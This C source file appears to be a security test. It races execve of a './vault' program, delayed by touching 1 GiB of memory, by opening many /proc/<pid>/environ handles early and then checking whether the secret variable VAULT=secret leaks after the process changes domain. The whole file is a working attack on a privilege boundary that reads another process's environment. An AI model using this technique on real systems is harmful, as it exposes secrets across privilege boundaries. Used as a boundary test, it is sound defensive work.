/* Opens files of a process while it enters another domain: freeing much memory takes its exec
 * long. */
#include "attack.h"
#include <sys/mman.h>

#define MEMORY (1L << 30)

static void round_of(void) {
    int ends[2], opened[900], count = 0;
    char byte, name[64], data[4096];
    if (pipe(ends)) _exit(3);
    pid_t child = fork();
    if (child == 0) {
        char *words[] = {"vault", NULL}, *environment[] = {"VAULT=secret", NULL};
        char *memory = mmap(NULL, MEMORY, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        madvise(memory, MEMORY, MADV_NOHUGEPAGE);
        for (long at = 0; at < MEMORY; at += 4096) memory[at] = 1;
        if (write(ends[1], "!", 1) != 1) _exit(3);
        usleep(20000);
        dup2(ends[1], 1);
        execve("./vault", words, environment);
        _exit(3);
    }
    if (read(ends[0], &byte, 1) != 1) _exit(3);
    snprintf(name, sizeof name, "/proc/%d/environ", child);
    while (count < 900) {
        int fd = open(name, O_RDONLY);
        if (fd < 0) break;
        opened[count++] = fd;
    }
    usleep(300000);
    for (int n = 0; n < count; n++) {
        int got = pread(opened[n], data, sizeof data, 0);
        if (got > 0 && memmem(data, got, "VAULT=secret", 12)) escaped("its environment");
        close(opened[n]);
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    close(ends[0]);
    close(ends[1]);
}

int main(void) {
    for (int n = 0; n < 2; n++) round_of();
    return 0;
}
